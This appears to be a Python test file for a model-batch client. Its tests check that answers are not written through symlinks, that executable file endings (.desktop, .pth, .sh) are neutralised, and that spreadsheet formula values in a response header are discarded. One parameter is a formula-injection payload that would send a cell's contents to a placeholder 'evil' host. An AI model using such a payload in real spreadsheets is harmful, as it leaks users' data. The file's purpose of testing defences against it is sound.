"""What one input meets is no matter of the others."""

from __future__ import annotations

import asyncio
import os
from pathlib import Path

import httpx
import pytest
from flaky_platform import CALM, flaky_platform

from modelwhisk.client.answers import Binary, Reply
from modelwhisk.client.calls import Calls
from modelwhisk.client.errors import ClientError
from modelwhisk.client.transport import AsyncTransport
from modelwhisk.map.inputs import rows_of
from modelwhisk.map.runner import Runner, _drift


def test_a_defect_that_one_input_shows_is_its_own_line(tmp_path, monkeypatch):
    reply = Calls.reply

    def defective(self, values):
        if values == {"n": 2}:
            raise ZeroDivisionError("shown by 2")
        return (yield from reply(self, values))

    monkeypatch.setattr(Calls, "reply", defective)
    results = []

    async def run(url):
        transport = AsyncTransport()
        await Runner(Calls(url), transport, tmp_path, 2).run(rows_of({"n": n} for n in range(5)), results.append)
        await transport.close()

    with flaky_platform(CALM) as platform:
        asyncio.run(run(platform.url))
    lines = {result.row.values["n"]: result.line for result in results}
    assert lines.pop(2).error == "ZeroDivisionError: shown by 2"
    assert {n: line.answer for n, line in lines.items()} == {n: {"square": n * n} for n in (0, 1, 3, 4)}


def test_an_answer_is_written_through_no_link(tmp_path):
    """Another user of the machine can tell beforehand what it will be called."""
    (row,) = rows_of([{"n": 1}])
    victim = tmp_path / "victim"
    victim.write_text("mine")
    runner = Runner(Calls("http://model"), None, tmp_path, 1)
    for name in (f"{row.label}.png", f".{row.label}.png.part"):
        (tmp_path / name).symlink_to(victim)
    path = runner._save(row, Binary(b"theirs", "image/png"))
    assert (path.read_text(), path.is_symlink(), victim.read_text()) == ("theirs", False, "mine")


def test_no_answer_goes_into_a_folder_behind_another_s_link(tmp_path, monkeypatch):
    """It is the model's choice what it says and how its name ends: what one's own programs run, say."""
    (row,) = rows_of([{"n": 1}])
    (tmp_path / "mine").mkdir()
    (tmp_path / "results.files").symlink_to("mine")
    runner = Runner(Calls("http://model"), None, tmp_path / "results.files", 1, through_link=True)
    me = os.geteuid()
    monkeypatch.setattr(os, "geteuid", lambda: me + 1)
    with pytest.raises(PermissionError, match="it is a link"):
        runner._save(row, Binary(b"theirs", "", "x.pth"))
    with pytest.raises(PermissionError, match="it is a link"):  # and nothing is sent
        asyncio.run(runner.run([row], print))
    assert not list((tmp_path / "mine").iterdir())


def test_an_answer_goes_through_one_s_own_link_only_where_it_was_named(tmp_path):
    """A stranger's archive brings it by the name that is ours, to where one's desktop starts what is there."""
    (row,) = rows_of([{"n": 1}])
    (tmp_path / "mine").mkdir()
    folder = tmp_path / "results.files"
    folder.symlink_to("mine")
    with pytest.raises(PermissionError, match="it is a link"):
        asyncio.run(Runner(Calls("http://model"), None, folder, 1).run([row], print))
    with pytest.raises(PermissionError, match="it is a link"):
        Runner(Calls("http://model"), None, folder, 1)._save(row, Binary(b"theirs", "", "x.png"))
    assert not list((tmp_path / "mine").iterdir())
    named = Runner(Calls("http://model"), None, folder, 1, through_link=True)
    assert named._save(row, Binary(b"theirs", "", "x.png")).read_bytes() == b"theirs"
    assert len(list((tmp_path / "mine").iterdir())) == 1


@pytest.mark.parametrize("name", ["x.desktop", "x.pth", "x.service", "x.sh", "x.py", "x", "x.png.sh"])
def test_no_answer_has_an_ending_by_which_programs_run_it(tmp_path, name):
    (row,) = rows_of([{"n": 1}])
    runner = Runner(Calls("http://model"), None, tmp_path, 1)
    assert runner._save(row, Binary(b"x", "", name)).suffix == ".bin"


@pytest.mark.parametrize(("longer", "kept"), [(0, ("answer", None)), (1, ("file", ".txt"))])
def test_a_text_too_long_for_a_line_is_a_file(tmp_path, longer, kept):
    """60 MB with one emoji took 3 GB on their way into a table."""
    (row,) = rows_of([{"n": 1}])
    body = "\U0001f600".encode() + b"a" * (2**20 - 4 + longer)
    reply = Reply(200, httpx.Headers({"content-type": "text/plain; charset=utf-8"}), body)
    line = Runner(Calls("http://model"), None, tmp_path, 1)._line(row, {"n": 1}, [], reply)
    if kept[0] == "answer":
        assert (line.answer.encode(), line.file) == (body, None)
    else:
        assert (line.answer, Path(line.file).suffix, Path(line.file).read_bytes()) == (None, kept[1], body)


def test_an_error_of_any_length_is_a_line_that_can_be_read(tmp_path, monkeypatch):
    def refused(self, values):
        raise ClientError("no" * 1_000_000)
        yield

    monkeypatch.setattr(Calls, "reply", refused)
    results = []

    async def run(url):
        transport = AsyncTransport()
        await Runner(Calls(url), transport, tmp_path, 2).run(rows_of({"n": n} for n in range(2)), results.append)
        await transport.close()

    with flaky_platform(CALM) as platform:
        asyncio.run(run(platform.url))
    assert {len(result.line.error) for result in results} == {4_000}


def test_no_ending_of_an_answer_s_name_is_too_long_for_the_file(tmp_path):
    (row,) = rows_of([{"n": 1}])
    runner = Runner(Calls("http://model"), None, tmp_path, 1)
    assert runner._save(row, Binary(b"x", "image/png", "x." + "p" * 190)).suffix == ".png"
    assert runner._save(row, Binary(b"x", "image/png", "x.gif")).suffix == ".gif"


@pytest.mark.parametrize("name", [b"x" * 250, "é".encode() * 120 + b".png", b"\xc3" * 120 + b"\xe9.png"])
def test_an_answer_for_an_input_of_any_name_is_kept(tmp_path, name):
    (row, other) = rows_of([{"image": Path(os.fsdecode(name))}] * 2)
    runner = Runner(Calls("http://model"), None, tmp_path, 1)
    kept = [runner._save(one, Binary(b"x", "image/png", "x.parquet")) for one in (row, other)]
    assert [path.read_bytes() for path in kept] == [b"x"] * 2
    assert len(set(kept)) == 2
    assert [os.fsencode(path.name)[:40] for path in kept] == [name[:40]] * 2


@pytest.mark.parametrize("told", ['=HYPERLINK("http://evil/?"&A2,"x")', "+1", "-1", "@x", "\t=1", "distance"])
def test_a_header_that_a_table_would_calculate_is_left(told):
    assert _drift(Reply(200, httpx.Headers({"model-drift": told}), b"")) is None
    assert _drift(Reply(200, httpx.Headers({"model-drift": "distance=0.5; threshold=1"}), b"")) is not None
